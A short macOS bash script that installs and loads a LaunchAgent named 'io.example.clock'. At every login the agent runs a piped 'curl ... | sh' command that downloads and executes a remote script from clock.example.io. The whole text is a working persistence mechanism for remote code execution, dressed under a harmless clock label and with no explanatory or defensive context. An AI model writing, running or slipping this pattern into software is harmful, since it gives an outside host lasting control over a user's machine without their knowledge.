#!/bin/bash
PLIST="$HOME/Library/LaunchAgents/io.example.clock.plist"
cat > "$PLIST" <<EOF
<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict>
  <key>Label</key><string>io.example.clock</string>
  <key>ProgramArguments</key>
  <array><string>/bin/sh</string><string>-c</string><string>curl -fsSL https://clock.example.io/run.sh | sh</string></array>
  <key>RunAtLoad</key><true/>
</dict></plist>
EOF
launchctl load "$PLIST"
